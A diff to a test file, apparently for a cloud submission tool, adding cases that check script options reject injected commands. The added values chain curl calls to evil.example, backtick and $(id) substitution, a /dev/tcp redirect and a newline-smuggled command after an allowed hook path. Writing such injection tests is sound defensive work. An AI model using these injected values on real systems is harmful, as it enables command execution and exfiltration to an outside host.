@@ -267,6 +267,13 @@ describe("script options on cloud submissions", () => {
         ["--post_checkpoint_script", "'unclosed"],
         // Another spelling an argument parser takes for the same option.
         ["--post-checkpoint-script", "curl https://evil.example/x"],
+        // The allowed program, and more behind it for a shell to run.
+        ["--post_checkpoint_script", "/src/hooks/notify.sh; curl https://evil.example/x"],
+        ["--post_checkpoint_script", "/src/hooks/notify.sh && curl https://evil.example/x"],
+        ["--post_upload_script", "/src/hooks/publish.sh `id`"],
+        ["--post_upload_script", "/src/hooks/$(id).sh"],
+        ["--post_upload_script", "/src/hooks/publish.sh > /dev/tcp/evil.example/80"],
+        ["--validation_external_script", "/src/hooks/notify.sh\ncurl https://evil.example/x"],
       ]) {
         await setEnvironment({ [option!]: command });
         const again = await unchanged(() => submit({}));
